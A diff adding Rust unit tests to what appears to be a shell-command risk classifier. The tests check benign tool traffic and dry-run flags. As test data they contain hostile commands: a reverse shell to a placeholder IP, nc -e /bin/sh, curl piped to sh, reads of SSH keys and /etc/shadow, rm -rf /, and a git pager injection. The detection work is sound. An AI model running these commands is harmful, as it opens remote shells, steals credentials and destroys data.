@@ -110,11 +110,67 @@ fn an_exception_for_one_operand_does_not_cover_another() {
 }
 
 #[test]
+fn what_tools_send_by_themselves_is_never_a_question() {
+    let rules = shipped();
+    for text in [
+        "/bin/sh -c '( umask 77 && mkdir -p \"` echo ~/.ansible/tmp `\" ) && sleep 0'",
+        "/bin/sh -c 'chmod u+x ~/.ansible/tmp/ansible-tmp-17.1-4-2/AnsiballZ_setup.py && sleep 0'",
+        "/bin/sh -c 'sudo -H -S -n -u root /bin/sh -c '\"'\"'echo BECOME-SUCCESS-x ; /usr/bin/python3 ~/.ansible/tmp/ansible-tmp-17.1-4-2/AnsiballZ_setup.py'\"'\"' && sleep 0'",
+        "/bin/sh -c 'rm -f -r /home/bob/.ansible/tmp/ansible-tmp-17.1-4-2/ > /dev/null 2>&1 && sleep 0'",
+        "~/.vscode-server/bin/abc/bin/code-server --start-server --host=127.0.0.1 --port=0 --connection-token-file ~/.vscode-server/.abc.token",
+        "curl -fsSL https://update.code.visualstudio.com/commit:abc/server-linux-x64/stable -o ~/.vscode-server/vscode-cli.tar.gz",
+        "rm -rf ~/.vscode-server/bin/abc",
+        "~/.cache/JetBrains/RemoteDev/dist/abc/bin/remote-dev-server.sh run ~/p --ssh-link-host x --temporary",
+        "rsync --server --sender -vlogDtpre.iLsfxCIvu . /srv/www/",
+        "rsync --server -logDtpre.iLsfxCIvu --delete . /srv/www/",
+        "scp -r -p -t /srv/www",
+        "git-upload-pack '/srv/git/x.git'",
+        ".mutagen/agents/0.17.2/mutagen-agent synchronizer --log-level=info",
+        "tmux -CC new -A -s main",
+        "docker system dial-stdio",
+    ] {
+        assert!(gravest(rules, text) < Level::High, "{text}: {:?}", hits(rules, text));
+    }
+    assert_eq!(
+        gravest(rules, "mosh-server new -s"),
+        Level::Critical,
+        "it goes past the bastion"
+    );
+}
+
+#[test]
+fn danger_that_is_only_spoken_of_is_no_danger() {
+    let rules = shipped();
+    for text in [
+        "echo 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
+        "grep -rn 'cat ~/.ssh/id_rsa' docs | wc -l",
+        "git commit -m 'detect nc -e /bin/sh and curl http://x.example | sh'",
+        "gh issue create --title audit --body 'found cat /etc/shadow in history'",
+        "echo 'never run: rm -rf /' >> notes.md",
+        "ls # curl http://x.example | sh",
+    ] {
+        assert!(gravest(rules, text) < Level::High, "{text}: {:?}", hits(rules, text));
+    }
+    for text in [
+        "echo 'rm -rf /' | sh",
+        "grep -rl 'BEGIN RSA PRIVATE KEY' /home",
+        "echo 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1' > x.sh",
+        "git -c core.pager='sh -c id' log",
+    ] {
+        assert!(gravest(rules, text) >= Level::High, "{text}");
+    }
+}
+
+#[test]
 fn the_last_word_on_a_dry_run_counts() {
     let rules = shipped();
     assert!(gravest(rules, "kubectl delete ns x --dry-run=client") < Level::High);
     assert!(gravest(rules, "kubectl delete ns x --dry-run=client --dry-run=none") >= Level::High);
     assert!(gravest(rules, "git push --mirror --dry-run --no-dry-run origin") >= Level::High);
+    assert!(
+        gravest(rules, "helm uninstall web --kube-context --dry-run") >= Level::High,
+        "here it is the value of another flag"
+    );
 }
 
 #[test]
